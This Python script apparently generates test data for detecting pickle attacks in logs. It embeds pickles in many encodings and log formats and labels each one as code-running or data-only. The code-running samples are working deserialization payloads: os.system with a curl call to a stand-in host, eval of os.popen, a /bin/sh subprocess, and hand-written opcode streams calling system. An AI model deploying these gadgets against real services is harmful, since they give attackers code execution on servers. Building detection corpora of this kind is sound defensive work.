"""Log lines with a pickle in each: every protocol, every way of writing bytes, every place of a line. One JSON object a line:
the bytes of the log in base64, what the pickle would do, and a word for each of what was chosen."""

import base64
import gzip
import hashlib
import json
import os
import pickle
import struct
import subprocess
import urllib.parse
import zlib


class Attack:
    def __init__(self, *call):
        self.call = call

    def __reduce__(self):
        return self.call


def pickles():
    values = {
        "system": ("runs-code", Attack(os.system, ("touch /tmp/x; curl http://203.0.113.7/~a?b=c",))),
        "eval": ("runs-code", Attack(eval, ("__import__('os').popen('id > /tmp/x').read() + '?'",))),
        "output": ("runs-code", Attack(subprocess.check_output, (["/bin/sh", "-c", "id \xff"],))),
        "nested": ("runs-code", {"cart": [1, 2.5, None, {"items": Attack(os.system, ("id",))}]}),
        "dict": ("data-only", {"cart": ["apple", "pear?>~", 3], "total": 4.5, "open": True, "\xe9": 1 << 70}),
        "list": ("data-only", [1, "two", [3.0, None], {"x": "\u20ac" * 40}]),
    }
    for name, (does, value) in values.items():
        for protocol in range(6):
            yield f"{name}-{protocol}", does, pickle.dumps(value, protocol)
    for name, text in {
        "reduce": b"cos\nsystem\n(S'id'\ntR.",
        "inst": b"(S'id'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'id'\no.",
        "builtin": b"c__builtin__\neval\n(Vprint(1)\ntR.",
        "unknown": b"cshop.models\nCart\n(S'id'\nI1\ntR.",
        "python-2": b"cposix\nsystem\np1\n(S'id'\np2\ntRp3\n.",
    }.items():
        yield f"hand-{name}", "runs-code", text


def escaped(data, style):
    out = []
    for byte in data:
        if 32 <= byte < 127 and byte not in b'"\\':
            out.append(chr(byte))
        elif style == "nginx":
            out.append(f"\\x{byte:02X}")
        elif style == "octal":
            out.append(f"\\{byte:03o}")
        elif style == "rsyslog":
            out.append(f"#{byte:03o}" if byte not in b'"\\' else chr(byte))
        elif style == "apache":
            out.append({10: "\\n", 9: "\\t", 34: '\\"', 92: "\\\\"}.get(byte, f"\\x{byte:02x}"))
    return "".join(out)


def lines76(data):
    return base64.encodebytes(data).decode()


# Bytes to text, as an application or a client writes them.
ENCODINGS = {
    "base64": lambda d: base64.b64encode(d).decode(),
    "base64-bare": lambda d: base64.b64encode(d).decode().rstrip("="),
    "urlsafe": lambda d: base64.urlsafe_b64encode(d).decode(),
    "urlsafe-bare": lambda d: base64.urlsafe_b64encode(d).decode().rstrip("="),
    "base64-lines": lines76,
    "signed": lambda d: base64.b64encode(hashlib.sha256(d).digest() + d).decode(),
    "prefixed": lambda d: base64.b64encode(b"v" + d).decode(),
    "django": lambda d: base64.urlsafe_b64encode(d).decode().rstrip("=") + ":1vNx2p:" + "x" * 27,
    "zlib": lambda d: base64.b64encode(zlib.compress(d)).decode(),
    "django-zlib": lambda d: "." + base64.urlsafe_b64encode(zlib.compress(d)).decode().rstrip("=") + ":1vNx2p:xyz",
    "gzip": lambda d: base64.b64encode(gzip.compress(d, mtime=0)).decode(),
    "hex": lambda d: d.hex(),
    "hex-upper": lambda d: d.hex().upper(),
    "percent": lambda d: urllib.parse.quote_from_bytes(d, safe=""),
    "percent-lower": lambda d: "".join(chr(b) if b < 128 and chr(b).isalnum() else f"%{b:02x}" for b in d),
    "percent-full": lambda d: "".join(f"%{b:02X}" for b in d),
    "percent-twice": lambda d: urllib.parse.quote(urllib.parse.quote_from_bytes(d, safe="")),
    "percent-latin1": lambda d: urllib.parse.quote(d.decode("latin-1"), safe=""),
    "repr": lambda d: repr(d),
    "octal": lambda d: escaped(d, "octal"),
    "rsyslog": lambda d: escaped(d, "rsyslog"),
    "nginx": lambda d: escaped(d, "nginx"),
    "apache": lambda d: escaped(d, "apache"),
    "latin1": lambda d: d.decode("latin-1"),
    "json-text": lambda d: json.dumps(d.decode("latin-1")),
    "numbers": lambda d: json.dumps(list(d)),
    "numbers-bare": lambda d: ",".join(map(str, d)),
}


def access(request, referer="-", agent="curl/8", more=""):
    head = '203.0.113.9 - - [25/Nov/2026:22:05:27 +0100] "'
    field = lambda text: escaped(text.encode(), "nginx")
    return f'{head}{field(request)}" 500 12 "{field(referer)}" "{field(agent)}"{more}\n'.encode()


def query(text):
    # What is percent-encoded already goes as it is.
    safe = "%" if "%" in text and all(c.isalnum() or c in "%_.-~" for c in text) else ""
    return urllib.parse.quote(text, safe=safe)


# Text into a line of a log.
PLACES = {
    "query": lambda t: access(f"GET /cart?id=7&cart={query(t)}&x=1 HTTP/1.1"),
    "referer": lambda t: access("GET / HTTP/1.1", f"https://shop.example.org/?cart={t}"),
    "agent": lambda t: access("GET / HTTP/1.1", agent=t),
    "cookie": lambda t: access("POST /cart HTTP/1.1", more=f' "session=1; cart={escaped(t.encode(), "nginx")}; a=b"'),
    "json-body": lambda t: json.dumps({"time": "2026-11-25T21:05:27Z", "ip": "203.0.113.9", "path": "/cart", "body": t}).encode() + b"\n",
    "json-utf8": lambda t: json.dumps({"ts": 1795640727.5, "client": "203.0.113.9", "http": {"headers": {"X-Cart": "cart=" + t}}}, ensure_ascii=False).encode() + b"\n",
    "json-in-json": lambda t: json.dumps({"time": "2026-11-25T21:05:27Z", "log": json.dumps({"cart": t})}).encode() + b"\n",
    "message": lambda t: f"2026-11-25 21:05:27,123 INFO shop: from 203.0.113.9 POST /cart cart={t!r}\n".encode(),
    "header": lambda t: f"2026-11-25 21:05:27,123 DEBUG headers: {dict(Host='x', Cookie='cart=' + t)}\n".encode(),
    "journal": lambda t: json.dumps({"__REALTIME_TIMESTAMP": "1795640727000000", "MESSAGE": f"203.0.113.9 cart: {t}"}).encode() + b"\n",
}


def export(data):
    entry = b"__CURSOR=s=1\n__REALTIME_TIMESTAMP=1795640727000000\n_PID=1\nMESSAGE\n"
    data = b"203.0.113.9 body " + data
    return entry + struct.pack("<Q", len(data)) + data + b"\n_COMM=python\n\n"


# Bytes into a log, as they are.
RAW = {
    "export": export,
    "lines": lambda d: b"2026-11-25 21:05:27,123 INFO from 203.0.113.9 body: " + d + b"\n",
    "bytes-in-json": lambda d: json.dumps({"__REALTIME_TIMESTAMP": "1795640727000000", "MESSAGE": list(b"203.0.113.9 " + d)}).encode() + b"\n",
    "repr": lambda d: b"2026-11-25 21:05:27,123 INFO 203.0.113.9 body %r\n" % d,
}


def main():
    for name, does, data in pickles():
        made = [(f"{place}/{encoding}", make(encode(data)))
                for place, make in PLACES.items() for encoding, encode in ENCODINGS.items()
                # What rsyslog escapes is a whole line.
                if encoding != "rsyslog" or place in ("message", "header")]
        made += [(f"raw/{place}", make(data)) for place, make in RAW.items()]
        for where, log in made:
            print(json.dumps({"name": f"{name}/{where}", "does": does, "log": base64.b64encode(log).decode()}))


main()
